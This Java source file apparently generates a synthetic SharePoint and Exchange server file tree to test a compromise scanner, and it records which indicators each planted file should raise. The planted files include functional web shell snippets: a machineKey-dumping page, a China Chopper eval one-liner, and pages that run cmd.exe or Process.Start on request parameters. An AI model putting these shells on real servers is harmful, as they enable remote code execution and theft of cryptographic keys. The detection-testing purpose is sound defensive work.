package dev.vigil.scan;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;

/**
 * Writes a Windows server's web folders as a test tree: SharePoint hive, IIS and Exchange web roots, ProgramData,
 * Windows\Temp and user folders, with pages, scripts, styles, configuration, code, DLLs and images of realistic
 * sizes, all last modified {@link #OLD}. The ordinary files include near misses of the content indicators (client
 * script with eval and XMLHttpRequest, a machineKey element, a fixed Process.Start, a short base64 icon). With
 * {@code plant}, one file of every indicator kind is added; {@link Tree#expected()} says which indicators each
 * planted file must raise (relative path with slashes → indicator ids).
 *
 * <p>Also a command for {@code tools/bench-scan.sh}: {@code ScanTreeGenerator FOLDER FILES plant|clean} writes
 * the tree, {@code FOLDER.hashes} (the hash list to scan with) and {@code FOLDER.expected} (path TAB ids).
 */
public final class ScanTreeGenerator {
    /** Every ordinary file's modification time. */
    public static final Instant OLD = Instant.parse("2024-03-12T08:00:00Z");
    /** The cut-off to scan with: after {@link #OLD}, before the planted recent change. */
    public static final Instant CUT_OFF = Instant.parse("2025-07-01T00:00:00Z");
    private static final Instant RECENT = Instant.parse("2025-07-19T02:14:00Z");

    private static final String HIVE = "Program Files/Common Files/Microsoft Shared/Web Server Extensions/16";
    private static final String EXCHANGE = "Program Files/Microsoft/Exchange Server/V15";
    private static final List<String> BASES = List.of(
            HIVE + "/TEMPLATE/LAYOUTS", HIVE + "/TEMPLATE/LAYOUTS/1033", HIVE + "/TEMPLATE/CONTROLTEMPLATES",
            HIVE + "/ISAPI", HIVE + "/TEMPLATE/FEATURES", "inetpub/wwwroot/wss/VirtualDirectories/80",
            EXCHANGE + "/FrontEnd/HttpProxy/owa/auth/15.2.1118", EXCHANGE + "/FrontEnd/HttpProxy/ecp",
            EXCHANGE + "/ClientAccess/ecp", EXCHANGE + "/ClientAccess/Owa/prem", "inetpub/wwwroot/aspnet_client/system_web/4_0_30319",
            "ProgramData/Microsoft/Crypto", "Windows/Temp", "Users/svc-farm/AppData/Local/Temp", "Windows/Microsoft.NET/assembly/GAC_MSIL");
    private static final String[] WORDS = ("farm site list item page web part content query search user profile service "
            + "application library document version workflow field column view ribbon").split(" ");

    /** The tree written: how many files, and what each planted one must raise. */
    public record Tree(int files, Map<String, Set<String>> expected, List<String> hashList) {
    }

    private final Path root;
    private final Random random;
    private final Map<String, Set<String>> expected = new TreeMap<>();
    private final List<String> hashList = new ArrayList<>();
    private int written;

    private ScanTreeGenerator(Path root, long seed) {
        this.root = root;
        this.random = new Random(seed);
    }

    public static Tree generate(Path root, int files, boolean plant, long seed) throws IOException {
        ScanTreeGenerator generator = new ScanTreeGenerator(root, seed);
        if (plant) {
            generator.plant();
        }
        generator.ordinary(files - generator.written);
        return new Tree(generator.written, Map.copyOf(generator.expected), List.copyOf(generator.hashList));
    }

    private void ordinary(int count) throws IOException {
        int folder = 0;
        int index = 0;
        while (index < count) {
            String base = BASES.get(folder % BASES.size());
            int depth = random.nextInt(3);
            StringBuilder path = new StringBuilder(base);
            for (int d = 0; d < depth; d++) {
                path.append("/").append(WORDS[random.nextInt(WORDS.length)]).append(folder % 97);
            }
            int inFolder = Math.min(count - index, 20 + random.nextInt(60));
            for (int i = 0; i < inFolder; i++, index++) {
                // a clean aspnet_client holds client script only (a page there is an indicator)
                write(path + "/" + (base.contains("aspnet_client") ? "WebUIValidation" + index + ".js" : name(index)), OLD);
            }
            folder++;
        }
    }

    private String name(int index) {
        int kind = random.nextInt(100);
        if (kind < 22) {
            return "page" + index + ".aspx";
        } else if (kind < 44) {
            return "script" + index + ".js";
        } else if (kind < 56) {
            return "style" + index + ".css";
        } else if (kind < 60) {
            return "web" + index + ".config";
        } else if (kind < 66) {
            return "Handler" + index + (kind % 2 == 0 ? ".ashx" : ".asmx");
        } else if (kind < 72) {
            return "Helper" + index + ".cs";
        } else if (kind < 82) {
            return "Microsoft.Office.Server" + index + ".dll";
        } else if (kind < 92) {
            return "image" + index + ".png";
        } else if (kind < 96) {
            return "icon" + index + ".gif";
        } else {
            return "strings" + index + ".resx";
        }
    }

    private void write(String relative, Instant modified) throws IOException {
        String extension = relative.substring(relative.lastIndexOf('.') + 1);
        int size = size();
        byte[] bytes = switch (extension) {
            case "aspx", "ashx", "asmx" -> text(PAGE, size);
            case "js" -> text(SCRIPT, size);
            case "css" -> text(".ms-core-listMenu-item{color:#333;padding:4px 8px}\n", size);
            case "config" -> text(CONFIG, size);
            case "cs" -> text(CODE, size);
            case "resx" -> text("<data name=\"Label\"><value>Text</value></data>\n", size);
            default -> binary(extension.equals("dll") ? "MZ" : extension.equals("png") ? "\u0089PNG" : "GIF89a", size);
        };
        put(relative, bytes, modified);
    }

    /** Sizes of web-root files: three quarters small, a quarter up to 32 KiB, one in a hundred up to 256 KiB. */
    private int size() {
        int draw = random.nextInt(100);
        if (draw < 75) {
            return 200 + random.nextInt(4 * 1024);
        } else if (draw < 99) {
            return 4 * 1024 + random.nextInt(28 * 1024);
        }
        return 64 * 1024 + random.nextInt(192 * 1024);
    }

    private static final String PAGE = """
            <%@ Page Language="C#" Inherits="Microsoft.SharePoint.WebControls.LayoutsPageBase" %>
            <%@ Register TagPrefix="SharePoint" Namespace="Microsoft.SharePoint.WebControls" Assembly="Microsoft.SharePoint" %>
            <script runat="server">
            protected void Page_Load(object sender, EventArgs e) {
                string id = Request.QueryString["id"];
                title.Text = Server.HtmlEncode(id ?? "none");
            }
            </script>
            """;
    private static final String SCRIPT = """
            function loadItems(url){ var request = new XMLHttpRequest(); request.onload = function(){
              var data = JSON.parse(request.responseText); evaluateRules(data); }; request.open("GET", url); request.send(); }
            """;
    private static final String CONFIG = """
            <configuration><system.web>
              <machineKey validationKey="AutoGenerate,IsolateApps" decryptionKey="AutoGenerate,IsolateApps" validation="HMACSHA256"/>
              <compilation debug="false" targetFramework="4.8"/></system.web></configuration>
            """;
    private static final String CODE = """
            using System.Diagnostics; // powershell scripts are run by the timer job, not here
            public class Helper { public void Reset() { Process.Start("iisreset.exe", "/noforce"); }
              public string Url(System.Web.HttpRequest Request) { return Request.Url.ToString(); }
              static readonly byte[] Icon = System.Convert.FromBase64String("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw=="); }
            """;

    private byte[] text(String head, int size) {
        StringBuilder text = new StringBuilder(size + 128).append(head);
        while (text.length() < size) {
            text.append("<!-- ").append(WORDS[random.nextInt(WORDS.length)]).append(' ')
                    .append(WORDS[random.nextInt(WORDS.length)]).append(" -->\n");
        }
        return text.toString().getBytes(StandardCharsets.UTF_8);
    }

    private byte[] binary(String magic, int size) {
        byte[] bytes = new byte[Math.max(size, magic.length())];
        random.nextBytes(bytes);
        byte[] head = magic.getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(head, 0, bytes, 0, head.length);
        return bytes;
    }

    private void put(String relative, byte[] bytes, Instant modified) throws IOException {
        Path file = root.resolve(relative);
        Files.createDirectories(file.getParent());
        Files.write(file, bytes);
        Files.setLastModifiedTime(file, FileTime.from(modified));
        written++;
    }

    private void plant(String relative, String text, String... ids) throws IOException {
        plantBytes(relative, text.getBytes(StandardCharsets.UTF_8), OLD, ids);
    }

    private void plantBytes(String relative, byte[] bytes, Instant modified, String... ids) throws IOException {
        put(relative, bytes, modified);
        expected.put(relative, Set.of(ids));
    }

    static final String MACHINE_KEY_SHELL = """
            <%@ Import Namespace="System.Web.Configuration" %>
            <script runat="server" language="c#">
            public void Page_Load(object sender, EventArgs e) {
              var sy = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral");
              var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");
              var gac = mkt.GetMethod("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic);
              var cg = (MachineKeySection)gac.Invoke(null, new object[0]);
              Response.Write(cg.ValidationKey+"|"+cg.Validation+"|"+cg.DecryptionKey+"|"+cg.Decryption+"|"+cg.CompatibilityMode);
            }
            </script>
            """;
    static final String CHOPPER = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z1\"],\"unsafe\");%>";

    /** One file per indicator kind: names, places, hashes, content (each content indicator), a recent change. */
    private void plant() throws IOException {
        String layouts = HIVE + "/TEMPLATE/LAYOUTS";
        String owaAuth = EXCHANGE + "/FrontEnd/HttpProxy/owa/auth";
        plant(layouts + "/spinstall0.aspx", MACHINE_KEY_SHELL, "location:toolshell-spinstall", "content:machinekey-dump");
        plant(layouts + "/ghostfile93.aspx", "<%@ Page Language=\"C#\" %>", "location:toolshell-ghostfile");
        plant(layouts + "/debug_dev.js", "var x = 1;", "location:toolshell-debug-dev");
        plant(layouts + "/1.css", "body{}", "location:toolshell-1-css");
        plant("inetpub/wwwroot/aspnet_client/supp0rt.aspx", CHOPPER,
                "location:proxylogon-aspnet-client-shell", "content:china-chopper", "content:eval-request");
        plant("inetpub/wwwroot/aspnet_client/system_web/log.aspx", "<% %>", "location:proxylogon-aspnet-client-log");
        plant(owaAuth + "/owafonts.aspx", "<% %>", "location:proxynotshell-owafonts");
        plant(owaAuth + "/OutlookZH.aspx", "<% %>", "location:proxylogon-owa-auth-shell");
        plant(owaAuth + "/google.log", "GET /owa/auth/x", "location:proxylogon-google-log-httpproxy");
        plant(EXCHANGE + "/FrontEnd/HttpProxy/OAB/log.aspx", "<% %>", "location:proxylogon-oab-log");
        plant("Users/Public/opera/opera_browser.exe", "MZ", "location:proxylogon-opera-browser");
        plant("ProgramData/VMware/nxc.exe", "MZ", "location:cve-2024-38094-tools");
        plant("ProgramData/VMware/66.exe", "MZ", "location:cve-2024-38094-tools");
        plant("root/lsass.dmp", "MDMP", "location:lsass-dump-root");
        plant("Windows/Temp/lsass_0307.dmp", "MDMP", "location:lsass-dump-windows-temp");
        plant("inetpub/wwwroot/dump.dmp", "MDMP", "location:dump-in-web-root");
        plant("ProgramData/pst/it.zip", "PK", "location:hafnium-pst-staging");
        plant("ProgramData/Microsoft/backup/mail.7z", "7z", "location:programdata-archive");
        plant("Tools/HRSword.exe", "MZ", "location:huorong-edr-kill");
        // a known hash under an ordinary name, listed in the hash list
        byte[] tool = binary("MZ", 48 * 1024);
        plantBytes(EXCHANGE + "/ClientAccess/ecp/bin/Microsoft.Exchange.Helper.dll", tool, OLD, "hash:" + sha256(tool));
        hashList.add(sha256(tool) + " renamed tool");
        // content indicators under ordinary names, in web roots (generic ones take the root's playbook)
        plant(EXCHANGE + "/ClientAccess/Owa/prem/errorFE2.aspx",
                "<%@ Page Language=\"C#\"%><% System.Diagnostics.Process.Start(Request.Form[\"f\"], Request.Form[\"a\"]); %>",
                "content:process-start-request");
        plant(HIVE + "/ISAPI/help/Helper9.cs", """
                var psi = new ProcessStartInfo();
                psi.FileName = "cmd.exe";
                psi.Arguments = "/c " + Request.Params["c"];
                Process.Start(psi);
                """, "content:shell-command-page");
        plant("inetpub/wwwroot/wss/VirtualDirectories/80/_app_bin/upload.ashx",
                "<%@ WebHandler Language=\"C#\" Class=\"H\" %> var b = Convert.FromBase64String(\"" + "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAA".repeat(40) + "\");",
                "content:base64-blob-decode");
        plant(HIVE + "/TEMPLATE/CONTROLTEMPLATES/Welcome2.ascx",
                "<script runat=server>void Page_Load(){ System.Reflection.Assembly.Load(new System.Security.Cryptography.RijndaelManaged()"
                        + ".CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance(\"U\"); }</script>",
                "content:reflective-assembly-load");
        // the key-dumping logic saved as UTF-16LE under a harmless name
        byte[] unicode = MACHINE_KEY_SHELL.getBytes(StandardCharsets.UTF_16LE);
        byte[] withMark = new byte[unicode.length + 2];
        withMark[0] = (byte) 0xff;
        withMark[1] = (byte) 0xfe;
        System.arraycopy(unicode, 0, withMark, 2, unicode.length);
        plantBytes(layouts + "/1033/Status.aspx", withMark, OLD, "content:machinekey-dump");
        // an ordinary-looking page changed after the cut-off in an Exchange web root
        plantBytes(EXCHANGE + "/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx", text(PAGE, 900), RECENT,
                "recent:exchange-frontend-httpproxy");
    }

    static String sha256(byte[] bytes) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** {@code ScanTreeGenerator FOLDER FILES plant|clean}: writes the tree, FOLDER.hashes and FOLDER.expected. */
    public static void main(String[] args) throws IOException {
        if (args.length != 3 || !(args[2].equals("plant") || args[2].equals("clean"))) {
            System.err.println("usage: ScanTreeGenerator FOLDER FILES plant|clean");
            System.exit(2);
        }
        Path folder = Path.of(args[0]);
        Tree tree = generate(folder, Integer.parseInt(args[1]), args[2].equals("plant"), 6);
        Files.write(Path.of(args[0] + ".hashes"), tree.hashList(), StandardCharsets.US_ASCII);
        List<String> expected = new ArrayList<>();
        tree.expected().forEach((path, ids) -> expected.add(path + "\t" + String.join(",", new java.util.TreeSet<>(ids))));
        java.util.Collections.sort(expected);
        Files.write(Path.of(args[0] + ".expected"), expected, StandardCharsets.UTF_8);
        System.out.println("wrote " + tree.files() + " files to " + folder);
    }

}
